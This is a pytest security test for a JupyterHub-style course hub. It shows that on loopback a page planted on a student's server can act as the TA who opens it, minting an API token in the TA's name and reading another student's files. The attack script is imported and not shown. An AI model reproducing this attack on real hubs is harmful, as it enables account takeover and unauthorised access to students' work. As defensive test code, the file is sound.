"""On loopback there is only one origin, and there a page on a student's server can act as the TA who opens it.

This is why such a Hub is not offered to other machines (tests/hub_config/test_origins.py). Against a server on its own
subdomain the attack fails (tests/sign_in/test_origins.py).
"""

import json

import httpx
import pytest

from tests.e2e.browser import chromium, person
from tests.e2e.hub import RunningHub
from tests.security.hostile_page import SCRIPT, plant_from_inside
from tests.security.shell import shell_of

pytestmark = [pytest.mark.security, pytest.mark.live, pytest.mark.e2e]


def test_a_page_of_a_students_server_becomes_the_ta(hub: RunningHub):
    passwords = hub.passwords()
    chen = shell_of(hub.url, "chen", passwords["chen"])
    plant_from_inside(chen)
    assert chen.request("DELETE", "/hub/api/users/chen/server").status_code in (202, 204)
    hub.wait(lambda: chen.request("GET", "/hub/api/users/chen").json()["servers"] == {}, 60, "stop chen's server")
    chen = shell_of(hub.url, "chen", passwords["chen"])
    with chromium() as browser:
        tom = person(browser, "tom", hub.url)
        tom.log_in(passwords["tom"])
        tom.go("/services/formgrader/")
        tom.go("/user/chen/shown/page.html")
        aims = {"hub": hub.url, "grade": "none", "victim": "tom", "neighbour": f"{hub.url}/user/ben", "toss": ""}
        got = tom.page.evaluate(f"{SCRIPT}\nattack({json.dumps(aims)})")
    assert got["make a token in the victim's name"].startswith("got "), got
    token = json.loads(got["make a token in the victim's name"].removeprefix("got "))["token"]
    headers = {"Authorization": f"token {token}"}
    assert httpx.get(f"{hub.url}/hub/api/user", headers=headers).json()["name"] == "tom"
    assert "ada" in got["read without asking for leave"]
    chen.run("rm -r ~/www ~/.jupyter/jupyter_server_config.py")
